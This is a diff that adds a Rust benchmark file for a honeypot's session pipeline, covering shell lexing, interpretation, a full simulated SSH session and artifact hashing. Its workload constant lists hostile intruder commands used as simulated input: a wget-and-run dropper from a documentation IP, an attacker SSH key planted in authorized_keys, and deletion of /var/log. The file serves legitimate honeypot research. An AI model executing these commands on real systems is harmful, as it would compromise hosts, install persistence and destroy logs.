@@ -1,0 +1,187 @@
+//! Single-core session hot path microbenches.
+//!
+//! Isolates the layers the per-session pipeline is built from, so a
+//! regression shows up in the layer that caused it rather than only in the
+//! end-to-end day loop:
+//!
+//! * `lex_only` — the arena [`LineBuf`] parser over a fixed intruder
+//!   workload, against the preserved reference lexer for scale.
+//! * `interp_only` — a pooled [`ShellSession`] executing the workload
+//!   through the quiet (render-free) path, arena scratch reused per iter.
+//! * `full_session` — the complete honeypot driver: accept, authenticate,
+//!   run a dropper script, close, materialize the record.
+//! * `batch_hash` — artifact digesting, one call per body vs the batched
+//!   [`Sha256::digest_many`] the prepared pipeline uses.
+//!
+//! Writes the recorded means to `BENCH_session_hot_path.json` at the repo
+//! root; under `--test` a placeholder goes to a scratch path instead and
+//! is parse-back validated.
+//!
+//! ```sh
+//! cargo bench -p hf-bench --bench session_hot_path
+//! ```
+
+use criterion::{black_box, Criterion, Throughput};
+use hf_hash::Sha256;
+use hf_honeypot::{HoneypotConfig, SessionDriver};
+use hf_proto::creds::Credentials;
+use hf_proto::Protocol;
+use hf_shell::lexer::reference;
+use hf_shell::{LineBuf, NullFetcher, ShellSession, SyntheticFetcher, SystemProfile};
+use hf_simclock::SimInstant;
+
+/// A representative intruder session: recon, then a dropper chain.
+const WORKLOAD: &[&str] = &[
+    "uname -a; id",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "free -m | grep Mem | awk '{print $2}'",
+    "cd /tmp || cd /var/run || cd /mnt",
+    "wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
+    // Truncating write, not `>>`: the interp bench reuses one session for
+    // thousands of iterations, and an append target would grow without
+    // bound and measure file copying instead of interpretation.
+    "echo \"ssh-rsa AAAAB3Nza attacker\" > .ssh/authorized_keys",
+    "rm -rf /var/log/* 2>&1",
+];
+
+fn bench_lex_only(c: &mut Criterion) {
+    let mut g = c.benchmark_group("lex_only");
+    g.throughput(Throughput::Elements(WORKLOAD.len() as u64));
+    g.bench_function("linebuf_reused", |b| {
+        let mut buf = LineBuf::new();
+        b.iter(|| {
+            let mut words = 0usize;
+            for line in WORKLOAD {
+                buf.parse(line);
+                for stmt in buf.statements() {
+                    for cmd in stmt.commands() {
+                        words += cmd.argv().len();
+                    }
+                }
+            }
+            black_box(words)
+        })
+    });
+    g.bench_function("reference_alloc", |b| {
+        b.iter(|| {
+            let mut words = 0usize;
+            for line in WORKLOAD {
+                for stmt in reference::split_statements(line) {
+                    for cmd in &stmt.pipeline {
+                        words += cmd.argv.len();
+                    }
+                }
+            }
+            black_box(words)
+        })
+    });
+    g.finish();
+}
+
+fn bench_interp_only(c: &mut Criterion) {
+    let mut g = c.benchmark_group("interp_only");
+    g.throughput(Throughput::Elements(WORKLOAD.len() as u64));
+    g.bench_function("quiet_reused_session", |b| {
+        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
+        b.iter(|| {
+            let mut ran = 0usize;
+            for line in WORKLOAD {
+                ran += sh.execute_quiet(line).commands_run;
+            }
+            black_box((ran, sh.take_events().commands.len()))
+        })
+    });
+    g.bench_function("parsed_quiet_reused_session", |b| {
+        // The prepared-script path: parse once, execute the parsed form
+        // every iteration (what `PreparedScripts` does per campaign).
+        let bufs: Vec<LineBuf> = WORKLOAD
+            .iter()
+            .map(|line| {
+                let mut buf = LineBuf::new();
+                buf.parse(line);
+                buf
+            })
+            .collect();
+        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
+        b.iter(|| {
+            let mut ran = 0usize;
+            for buf in &bufs {
+                ran += sh.execute_parsed_quiet(buf).commands_run;
+            }
+            black_box((ran, sh.take_events().commands.len()))
+        })
+    });
+    g.finish();
+}
+
+fn bench_full_session(c: &mut Criterion) {
+    let mut g = c.benchmark_group("full_session");
+    g.bench_function("dropper_session", |b| {
+        b.iter(|| {
+            let mut d = SessionDriver::accept(
+                HoneypotConfig::default(),
+                0,
+                Protocol::Ssh,
+                hf_geo::Ip4::new(203, 0, 113, 1),
+                4000,
+                SimInstant::EPOCH,
+                Box::new(SyntheticFetcher),
+            );
+            d.offer_credentials(Credentials::new("root", "1234"), 1);
+            for line in WORKLOAD {
+                d.run_command_quiet(line, 2);
+            }
+            d.client_close();
+            black_box(d.into_record())
+        })
+    });
+    g.finish();
+}
+
+fn bench_batch_hash(c: &mut Criterion) {
+    let mut g = c.benchmark_group("batch_hash");
+    let bodies: Vec<Vec<u8>> = (0..64u8)
+        .map(|i| {
+            let mut body = b"\x7fELF<synthetic:".to_vec();
+            body.extend(std::iter::repeat_n(i, 600));
+            body
+        })
+        .collect();
+    g.throughput(Throughput::Elements(bodies.len() as u64));
+    g.bench_function("digest_each_64x600B", |b| {
+        b.iter(|| {
+            let mut acc = 0u8;
+            for body in &bodies {
+                acc ^= Sha256::digest(body).0[0];
+            }
+            black_box(acc)
+        })
+    });
+    g.bench_function("digest_many_64x600B", |b| {
+        let mut out = Vec::with_capacity(bodies.len());
+        b.iter(|| {
+            out.clear();
+            Sha256::digest_many(bodies.iter().map(Vec::as_slice), &mut out);
+            black_box(out.len())
+        })
+    });
+    g.finish();
+}
+
+fn main() {
+    let mut c = Criterion::default();
+    bench_lex_only(&mut c);
+    bench_interp_only(&mut c);
+    bench_full_session(&mut c);
+    bench_batch_hash(&mut c);
+    hf_bench::emit_bench_json(
+        &c,
+        "BENCH_session_hot_path.json",
+        "session_hot_path",
+        &[
+            ("workload_lines", format!("{}", WORKLOAD.len())),
+            ("hash_bodies", "64".to_string()),
+            ("hash_body_bytes", "600".to_string()),
+        ],
+    );
+}
